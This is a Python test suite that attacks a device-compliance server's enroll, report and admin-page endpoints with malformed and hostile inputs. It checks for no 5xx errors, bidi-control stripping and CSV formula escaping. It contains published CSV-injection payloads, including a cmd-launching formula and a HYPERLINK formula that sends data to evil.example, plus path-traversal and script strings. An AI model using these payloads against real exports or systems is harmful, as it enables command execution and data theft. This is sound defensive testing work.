"""No input makes a 500 (issue 11, part 4): a hand-written list of hostile inputs thrown at
enroll, reports and every IT page of the real server, on SQLite and PostgreSQL. Each is
refused (4xx, a 422 naming the field) or cleaned where cleaning loses nothing; nothing
answers 5xx. Also: bidi controls never reach IT's pages or CSV in order-changing form, and
CSV cells cannot be formulas (parts 3 and 9)."""
from __future__ import annotations

import csv
import datetime as dt
import io
import json
import os
import re
import socket
import sys
import uuid

import requests
from sqlalchemy import text

import srvkit

sys.path.insert(0, os.path.join(os.path.dirname(os.path.dirname(os.path.abspath(__file__))), "mdm"))

RLO, LRI, PDI, RLM = "\u202e", "\u2066", "\u2069", "\u200f"
BIDI = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"
# Formula payloads as published: OWASP "CSV Injection" (https://owasp.org/www-community/attacks/CSV_Injection)
# and https://www.codereviewlab.com/learning/csv-injection (=cmd|'/c calc'!A1, =HYPERLINK, @SUM);
# ASVS 1.2.10 (https://asvs.emil.hemdal.se/1.2.10) adds tab and NUL as first characters.
FORMULAS = ["=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")",
            "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
            RLO + "=1+1"]


def enroll_device(srv, token, **device):
    dev = {"platform": "darwin", "hostname": "mac-1", "serial": "C02HOSTILE1",
           "hardware_uuid": "4C4C4544-0042-3510-8052-B3C04F4D3332", "model": "MacBookPro18,3"}
    dev.update(device)
    r = requests.post(srv.url + "/api/v1/enroll", json={"enroll_token": token, "device": dev}, timeout=30)
    assert r.status_code == 201, r.text
    return r.json()["device_secret"], dev


def report(dev, **changes):
    rep = {"schema": 1, "report_id": str(uuid.uuid4()), "agent_version": "0.1.0",
           "checked_at": dt.datetime.now(dt.timezone.utc).strftime("%Y-%m-%dT%H:%M:%SZ"),
           "device": dict(dev), "status": "fail",
           "checks": [{"id": "firewall", "status": "fail", "title": "Firewall",
                       "summary": "The firewall is off.", "observed": {"enabled": False},
                       "fix": {"steps": ["Open Settings."], "link": None}}]}
    rep.update(changes)
    return rep


def post_raw(srv, secret, body: bytes):
    return requests.post(srv.url + "/api/v1/reports", data=body, timeout=30,
                         headers={"Authorization": f"Bearer {secret}", "Content-Type": "application/json"})


def login(srv) -> requests.Session:
    user, password = srv.admin()
    s = requests.Session()
    csrf = re.search(r'name="csrf" value="([^"]+)"', s.get(srv.url + "/login").text).group(1)
    r = s.post(srv.url + "/login", data={"username": user, "password": password, "csrf": csrf})
    assert r.status_code == 200, r.text[:300]
    return s


def nested(depth: int) -> str:
    return "[" * depth + "]" * depth


# -- the attack list ------------------------------------------------------------------

def hostile_reports(dev):
    """(label, raw body, expected status or None for 'any 4xx', field named in the answer)."""
    j = lambda rep: json.dumps(rep).encode()  # noqa: E731
    out = []
    for when in ("0001-01-01T00:00:00+01:00", "9999-12-31T23:59:59-01:00", "0001-01-01T00:00:00+23:59",
                 "9999-12-31T23:59:59.999999-23:59", "10000-01-01T00:00:00Z", "2026-13-45T99:99:99Z",
                 "0000-00-00T00:00:00Z", "", "now", 1e300, -1, 10 ** 30, True, None, [], {}):
        out.append((f"checked_at={when!r}", j(report(dev, checked_at=when)), 422, "checked_at"))
    for field in ("hostname", "model", "serial", "os_name", "os_version", "os_build", "hardware_uuid"):
        out.append((f"NUL inside device.{field}",
                    j(report(dev, device=dict(dev, **{field: "ab\u0000cd"}))), 422, field))
    out.append(("NUL inside agent_version", j(report(dev, agent_version="0.1\u00000")), 422, "agent_version"))
    out.append(("NUL device_id", j(report(dev, device_id="\u0000x")), 422, "device_id"))
    # lone surrogates are not Unicode: the JSON is refused
    for where in ("hostname", "summary"):
        rep = report(dev)
        if where == "hostname":
            rep["device"]["hostname"] = "@@LONE@@"
        else:
            rep["checks"][0]["summary"] = "@@LONE@@"
        for lone in ("\\ud800", "\\udfff", "\\ud800\\u0041"):
            out.append((f"lone surrogate {lone} in {where}",
                        j(rep).replace(b"@@LONE@@", lone.encode()), 422, None))
    # wrong types everywhere
    for key, value in (("schema", "one"), ("schema", 10 ** 40), ("schema", 1e400), ("report_id", "x\u0000"),
                       ("report_id", 5), ("device", "mac"), ("device", None), ("status", ["fail"]),
                       ("checks", {"id": "firewall"}), ("checks", "x"), ("checks", [None]),
                       ("checks", [{"id": "firewall\u0000", "status": "fail"}]),
                       ("checks", [{"id": "firewall", "status": "fail", "observed": []}]),
                       ("checks", [{"id": "firewall", "status": "fail", "fix": {"steps": "x"}}]),
                       ("checks", [{"id": "c%d" % i, "status": "pass"} for i in range(65)]),
                       ("checks", [{"id": "firewall", "status": "fail", "summary": "x" * 2001}]),
                       ("agent_version", {"v": 1})):
        out.append((f"{key}={str(value)[:40]!r}", j(report(dev, **{key: value})), 422, None))
    out.append(("hostname 257 long", j(report(dev, device=dict(dev, hostname="h" * 257))), 422, "hostname"))
    out.append(("platform NUL", j(report(dev, device=dict(dev, platform="darwin\u0000"))), 422, "platform"))
    deep = report(dev)
    deep["checks"][0]["observed"] = {"deep": "@@DEEP@@"}
    out.append(("observed nested 20000 deep", j(deep).replace(b'"@@DEEP@@"', nested(20000).encode()),
                422, None))
    for raw in (b"", b"\x00", b"\xff\xfe{\x00}", b"null", b"[]", b"1e999999", b'"\\u0000"',
                b"{" * 5000, b'{"schema":1,"schema":1}', "\ufeff{}".encode(), b"{\"a\":\"\x00\"}"):
        out.append((f"raw {raw[:20]!r}", raw, 422, None))
    return out


def test_no_hostile_input_gives_a_5xx(live_server):
    srv = live_server
    token = srv.token()
    secret, dev = enroll_device(srv, token)
    assert post_raw(srv, secret, json.dumps(report(dev)).encode()).status_code == 202

    # -- reports
    for label, body, want, field in hostile_reports(dev):
        r = post_raw(srv, secret, body)
        assert r.status_code < 500, (label, r.status_code, r.text[:300])
        assert r.status_code == want, (label, r.status_code, r.text[:300])
        if field:
            detail = r.json()["detail"]
            if isinstance(detail, str):   # e.g. "report is older than 30 days (checked_at ...)"
                assert field in detail, (label, detail)
            else:
                assert any(field in e["loc"] for e in detail), (label, detail)
    # the hostile bodies stored nothing
    assert srv.count("reports") == 1
    # fields the server does not type are kept as sent, and must not break what reads them
    # later (reconciliation reads device.mac_addresses)
    it = login(srv)
    for macs in (5, True, {"a": 1}, [None, 5, ["AA"], "zz"]):
        odd = report(dev, device=dict(dev, mac_addresses=macs))
        assert post_raw(srv, secret, json.dumps(odd).encode()).status_code == 202
        for u in ("/reconcile", "/reconcile.csv", "/reconcile.json", "/devices"):
            assert it.get(srv.url + u, timeout=30).status_code == 200, (macs, u)

    # cleaned, not refused: trailing NUL padding (as SMBIOS/WMI strings carry) is dropped
    padded = report(dev, device=dict(dev, serial="C02HOSTILE1\u0000\u0000", model="MacBookPro18,3\u0000"))
    r = post_raw(srv, secret, json.dumps(padded).encode())
    assert r.status_code == 202, r.text
    with srv.engine.connect() as conn:
        row = conn.execute(text("SELECT serial, model FROM devices")).one()
    assert (row.serial, row.model) == ("C02HOSTILE1", "MacBookPro18,3")
    # a report from the far future is stored, capped at receipt
    future = report(dev, checked_at="9999-12-31T23:59:59Z")
    assert post_raw(srv, secret, json.dumps(future).encode()).status_code == 202
    # a NUL in the report's free text is kept exactly: the body stays JSON-escaped in the TEXT column
    soon = dt.datetime.now(dt.timezone.utc) + dt.timedelta(minutes=1)   # newest: capped at receipt
    nul = report(dev, checked_at=soon.strftime("%Y-%m-%dT%H:%M:%SZ"))
    nul["checks"][0]["summary"] = "The firewall is off.\u0000 (NUL)"
    nul["checks"][0]["observed"] = {"name\u0000": "\u0000"}
    assert post_raw(srv, secret, json.dumps(nul).encode()).status_code == 202
    with srv.engine.connect() as conn:
        body = conn.execute(text("SELECT body FROM reports WHERE report_id = :r"),
                            {"r": nul["report_id"]}).scalar_one()
    assert "\\u0000" in body and "\x00" not in body
    assert json.loads(body)["checks"][0]["summary"] == "The firewall is off.\u0000 (NUL)"

    # -- a hostile Authorization header, sent as raw bytes
    for auth in (b"Bearer ab\x00cd.ef", b"Bearer \xff\xfe.x", b"Bearer " + b"a" * 5000, b"Bearer \xc3\xa9.x"):
        status = raw_status(srv, b"POST /api/v1/reports HTTP/1.1\r\nHost: x\r\nAuthorization: " + auth +
                            b"\r\nContent-Type: application/json\r\nContent-Length: 2\r\n\r\n{}")
        assert status is None or status < 500, (auth[:30], status)

    # -- enroll
    good_dev = {"platform": "linux", "hostname": "pc-2"}
    for label, body in (
            ("NUL in hostname", {"enroll_token": token, "device": dict(good_dev, hostname="pc\u00002")}),
            ("NUL in model", {"enroll_token": token, "device": dict(good_dev, model="X\u0000Y")}),
            ("NUL in serial", {"enroll_token": token, "device": dict(good_dev, serial="\u0000ABC")}),
            ("NUL in token", {"enroll_token": token[:5] + "\u0000" + token[5:], "device": good_dev}),
            ("token wrong type", {"enroll_token": 10 ** 40, "device": good_dev}),
            ("token null", {"enroll_token": None, "device": good_dev}),
            ("device list", {"enroll_token": token, "device": [good_dev]}),
            ("platform NUL", {"enroll_token": token, "device": {"platform": "\u0000"}}),
            ("hostname very long", {"enroll_token": token, "device": dict(good_dev, hostname="x" * 5000)}),
            ("hostname number", {"enroll_token": token, "device": dict(good_dev, hostname=1e300)})):
        r = requests.post(srv.url + "/api/v1/enroll", json=body, timeout=30)
        assert r.status_code == 422, (label, r.status_code, r.text[:300])
    for label, raw in (("lone surrogate", b'{"enroll_token":"a.b","device":{"platform":"linux","hostname":"\\ud800"}}'),
                       ("deep", nested(8000).encode()), ("NUL byte", b"\x00"), ("empty", b""),
                       ("garbage", b"\xff" * 100)):
        r = requests.post(srv.url + "/api/v1/enroll", data=raw, timeout=30,
                          headers={"Content-Type": "application/json"})
        assert r.status_code == 422, (label, r.status_code, r.text[:300])
    r = requests.post(srv.url + "/api/v1/enroll", timeout=30,
                      json={"enroll_token": "abc\u0000.def", "device": good_dev})
    assert r.status_code == 422 and "enroll_token" in r.text
    r = requests.post(srv.url + "/api/v1/enroll", timeout=30,
                      json={"enroll_token": "é.def", "device": good_dev})
    assert r.status_code == 401
    assert srv.count("devices") == 1

    # -- every IT page, logged out and logged in
    hostile_q = ["\x00", "%00", "a\x00b", "\x1b[31m", "%", "_", "\\", "'", "x" * 10000, RLO + "gpj",
                 "\u0000" * 100, "<script>", "%ED%A0%80"]
    urls = ["/", "/devices", "/reconcile", "/policy", "/login"]
    for q in hostile_q:
        for p in ("q", "status", "check", "platform", "seen", "kind", "next"):
            v = requests.utils.quote(q, safe="")
            urls += [f"/devices?{p}={v}", f"/reconcile?{p}={v}", f"/login?{p}={v}"]
        urls += ["/devices?q=%ED%A0%80", "/devices?q=%FF%FE", "/login?next=%ED%A0%80"]
    for page in ("-1", "0", str(10 ** 30), "abc", "1e400", "%00", "NaN", "-" + "9" * 400):
        urls += [f"/devices?page={page}", f"/reconcile?page={page}", f"/reconcile?kind=silent&page={page}"]
    urls += ["/devices/%00", "/devices/a%00b", "/devices/" + "a" * 300, "/devices/%ED%A0%80",
             "/devices/..%2F..%2Fetc", "/devices/%E2%80%AE", "/reconcile.csv", "/reconcile.json",
             "/reconcile.%00", "/reconcile.csv%00", "/static/app.css%00", "/%00"]
    anon = requests.Session()
    for s in (anon, it):
        for u in urls:
            r = s.get(srv.url + u, allow_redirects=False, timeout=30)
            assert r.status_code < 500, (u, r.status_code, r.text[:300])
    assert it.get(srv.url + "/devices?q=%00").status_code == 200
    assert it.get(srv.url + "/devices?q=mac%00-1").text.count('class="device"') == 1   # NUL ignored
    assert it.get(srv.url + "/devices/%00").status_code == 404
    # every device page renders, including the one whose newest report carries NULs
    with srv.engine.connect() as conn:
        dev_id = conn.execute(text("SELECT id FROM devices")).scalar_one()
    page = it.get(srv.url + f"/devices/{dev_id}")
    assert page.status_code == 200 and "\x00" not in page.text and "The firewall is off. (NUL)" in page.text

    # the biggest number and the deepest nesting the server takes still render
    big = report(dev, checked_at=(dt.datetime.now(dt.timezone.utc) + dt.timedelta(minutes=5))
                 .strftime("%Y-%m-%dT%H:%M:%SZ"))
    big["checks"][0]["observed"] = {"n": "@@BIG@@", "deep": "@@DEEP@@"}
    raw = json.dumps(big).replace('"@@BIG@@"', "9" * 4300).replace('"@@DEEP@@"', nested(150))
    assert post_raw(srv, secret, raw.encode()).status_code == 202
    page = it.get(srv.url + f"/devices/{dev_id}")
    assert page.status_code == 200 and "9" * 4300 in page.text
    too_big = json.dumps(report(dev)).replace('"enabled": false', '"enabled": ' + "9" * 4301)
    assert post_raw(srv, secret, too_big.encode()).status_code == 422

    # forms: a NUL in the login name, in the policy text
    csrf = re.search(r'name="csrf" value="([^"]+)"', anon.get(srv.url + "/login").text).group(1)
    r = anon.post(srv.url + "/login", data={"username": "it-admin\x00", "password": "x", "csrf": csrf})
    assert r.status_code == 401
    r = anon.post(srv.url + "/login", data={"username": "\x00" * 200, "password": "\x00", "csrf": csrf})
    assert r.status_code == 401
    sess_csrf = re.search(r'name="csrf" value="([^"]+)"', it.get(srv.url + "/policy").text).group(1)
    for bad in ("[organization]\nname = \"a\x00b\"\n", "\x00", "# \x00\n", "x = \"\x00\""):
        r = it.post(srv.url + "/policy", data={"policy": bad, "csrf": sess_csrf}, allow_redirects=False)
        assert r.status_code == 422, (bad[:30], r.status_code, r.text[:300])
    assert srv.count("org_policy") == 0
    r = it.post(srv.url + "/policy", data={"policy": "[screen_lock]\nmax_seconds = " + "9" * 500,
                                           "csrf": sess_csrf}, allow_redirects=False)
    assert r.status_code < 500


def raw_status(srv, request: bytes) -> int | None:
    """Send raw bytes; the status code of the answer, or None when the server closed."""
    with socket.create_connection(("127.0.0.1", srv.port), timeout=30) as sock:
        sock.sendall(request)
        data = b""
        try:
            while b"\r\n" not in data:
                chunk = sock.recv(4096)
                if not chunk:
                    break
                data += chunk
        except OSError:
            return None
    m = re.match(rb"HTTP/1\.[01] (\d{3})", data)
    return int(m.group(1)) if m else None


# -- MDM data with NUL and lone surrogates ------------------------------------------------

def test_mdm_records_with_nul_and_lone_surrogates_sync_and_show(database_url, tmp_path):
    from mdmstubs import JamfStub

    from server.mdm.store import load_records, sync_source
    srv = srvkit.LiveServer(database_url).start()
    stub = None
    try:
        secret, dev = enroll_device(srv, srv.token(), hostname=f"laptop{RLO}gpj.exe")
        assert post_raw(srv, secret, json.dumps(report(dev)).encode()).status_code == 202
        comp = {"id": "7\u0000", "udid": "4C4C4544-0042-3510-8052-B3C04F4D3332",
                "general": {"name": "jamf-\u0000mac\ud800", "reportDate": "2026-11-30T10:00:00Z",
                            "platform": "Mac"},
                "hardware": {"serialNumber": "C02OTHER\u00009", "model": "=cmd|' /C calc'!A0\ud83d\ude00",
                             "macAddress": "3C:22:FB:00:00:07"},
                "operatingSystem": {"name": "macOS", "version": "14.4\u0000.1"},
                "diskEncryption": {"fileVault2Enabled": True},
                "security": {"sipStatus": "ENABLED", "firewallEnabled": True},
                "userAndLocation": {"username": "@SUM(1+1)*cmd|' /C calc'!A0"}}
        stub = JamfStub([comp], [])
        res = sync_source(srv.engine, "jamf", {"url": stub.url, "client_id": "cid",
                                               "client_secret_env": "JAMF_SECRET"},
                          environ={"JAMF_SECRET": "s3cret"}, sleep=lambda s: None)
        assert res.status == "ok", res.message
        (rec,) = load_records(srv.engine)
        assert "\x00" not in (rec.source_id + (rec.hostname or "") + (rec.serial or ""))
        assert rec.hostname == "jamf-mac\ufffd" and rec.source_id == "7"
        it = login(srv)
        for u in ("/reconcile", "/reconcile.csv", "/reconcile.json", "/", "/devices"):
            r = it.get(srv.url + u, timeout=30)
            assert r.status_code == 200, (u, r.status_code, r.text[:300])
            if u != "/reconcile.json":
                assert not set(BIDI) & set(r.text), u
        data = it.get(srv.url + "/reconcile.json").json()
        assert any(f["hostname"] == f"laptop{RLO}gpj.exe" for f in data["findings"])   # exact data
        assert RLO not in it.get(srv.url + "/reconcile.json").text                      # but escaped
    finally:
        if stub:
            stub.close()
        srv.stop()


# -- bidi on the rendered pages -----------------------------------------------------------

def test_bidi_controls_do_not_reach_it_pages(live_server):
    srv = live_server
    token = srv.token()
    host = f"invoice{RLO}fdp.exe"     # shows as "invoiceexe.pdf" where the control survives
    secret, dev = enroll_device(srv, token, hostname=host, model=f"Mac{LRI}Book{PDI}{RLM}",
                                serial="C02BIDI0001")
    rep = report(dev, device=dict(dev, os_name=f"mac{RLO}OS", os_version="14\u061c.6"))
    rep["checks"][0]["summary"] = f"Firewall {RLO}ffo si{PDI} on"
    rep["checks"][0]["title"] = "\u202bFirewall\u202c"
    rep["checks"][0]["fix"] = {"steps": [f"Open {RLO}sgnitteS"], "link": f"https://x.example/{RLO}"}
    rep["checks"][0]["observed"] = {f"k{RLO}": f"v{RLO}"}
    assert post_raw(srv, secret, json.dumps(rep).encode()).status_code == 202
    it = login(srv)
    with srv.engine.connect() as conn:
        dev_id = conn.execute(text("SELECT id FROM devices")).scalar_one()
    pages = {u: it.get(srv.url + u, timeout=30) for u in
             ("/", "/devices", f"/devices/{dev_id}", "/devices?q=" + requests.utils.quote(f"invoice{RLO}"),
              "/reconcile")}
    for u, r in pages.items():
        assert r.status_code == 200, u
        assert not set(BIDI) & set(r.text), (u, [c for c in r.text if c in BIDI])
    device_page = pages[f"/devices/{dev_id}"].text
    assert "<bdi>invoicefdp.exe</bdi>" in device_page                 # stripped and isolated
    assert "<bdi>Firewall ffo si on</bdi>" in device_page
    assert "<bdi>MacBook</bdi>" in device_page and "<bdi>macOS</bdi>" in device_page
    assert "<title>invoicefdp.exe" in device_page                     # no <bdi> in a title: stripped
    assert 'href="/devices/' + dev_id + '"><bdi>invoicefdp.exe</bdi></a>' in pages["/devices"].text
    # the search box keeps what IT typed, minus the control
    assert 'value="invoice"' in pages["/devices?q=" + requests.utils.quote(f"invoice{RLO}")].text
    # the data itself is kept exactly as the agent sent it
    with srv.engine.connect() as conn:
        assert conn.execute(text("SELECT hostname FROM devices")).scalar_one() == host


# -- CSV: one writer, no formulas, no bidi --------------------------------------------------

def test_every_csv_cell_that_could_be_a_formula_is_prefixed():
    from server.reconcile import CSV_COLUMNS, write_csv
    from server.untrusted import csv_cell
    findings = []
    for i, payload in enumerate(FORMULAS):
        findings.append({c: payload for c in CSV_COLUMNS} | {"sources": [payload, "jamf"],
                                                             "mdm_ids": [f"jamf:{payload}"]})
    buf = io.StringIO()
    write_csv(findings, buf)
    rows = list(csv.reader(io.StringIO(buf.getvalue())))
    assert rows[0] == list(CSV_COLUMNS)
    cells = [c for row in rows[1:] for c in row]
    assert len(cells) == len(FORMULAS) * len(CSV_COLUMNS)
    for c in cells:
        assert c.startswith("'") or c.startswith("jamf:"), c
        assert not set(BIDI) & set(c)
    assert "'=cmd|' /C calc'!A0" in cells and "'\t=1+1" in cells and "'=1+1" in cells
    assert "'\n=1+1" in cells      # a leading CR: prefixed, and written as a quoted line break
    # harmless values are left alone; a hidden formula behind a bidi control is caught
    assert csv_cell("C02XK00001") == "C02XK00001" and csv_cell("mac-1 (Zoë)") == "mac-1 (Zoë)"
    assert csv_cell(None) == "" and csv_cell(["agent", "jamf"]) == "agent jamf"
    assert csv_cell(f"{RLO}=1+1") == "'=1+1" and csv_cell(f"{RLM}-1") == "'-1"
    assert csv_cell("14.4.1") == "14.4.1" and csv_cell("a=b") == "a=b"
    assert csv_cell("\x00=1") == "'=1"     # ASVS: a leading NUL hides a formula too


def test_reconcile_csv_from_the_server_and_the_cli_is_safe(database_url, tmp_path, capsys):
    """14 of 14 hostile cells came through as they were (issue 11); now none does, in the
    page export and in `checkup-server reconcile --csv`."""
    from server.cli import main
    srv = srvkit.LiveServer(database_url).start()
    try:
        token = srv.token()
        for i, payload in enumerate(FORMULAS[:5]):
            secret, dev = enroll_device(srv, token, hostname=payload, serial=f"=C02FORM{i:04d}",
                                        hardware_uuid=str(uuid.uuid4()).upper())
            rep = report(dev, device=dict(dev, os_version=payload[:60]))
            assert post_raw(srv, secret, json.dumps(rep).encode()).status_code == 202
        # a finished (empty) sync makes every device "unmanaged": a finding with its hostname
        from server.mdm.store import sync_source

        class Empty:
            class stats:  # noqa: N801
                records = skipped = 0

                @staticmethod
                def summary():
                    return "0 records"

            def records(self):
                return iter(())
        assert sync_source(srv.engine, "jamf", {}, connector=Empty()).status == "ok"
        it = login(srv)
        page_csv = it.get(srv.url + "/reconcile.csv", timeout=30).text
        cfg = tmp_path / "server.toml"
        cfg.write_text(f'[server]\ndatabase_url = "{database_url}"\n')
        capsys.readouterr()
        assert main(["--config", str(cfg), "reconcile", "--csv"]) == 0
        cli_csv = capsys.readouterr().out
        for name, body in (("page", page_csv), ("cli", cli_csv)):
            rows = list(csv.DictReader(io.StringIO(body)))
            assert len(rows) == 5, (name, body)
            for row in rows:
                for col, cell in row.items():
                    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (name, col, cell)
                assert row["hostname"].startswith("'") and row["serial"].startswith("'=C02FORM")
    finally:
        srv.stop()
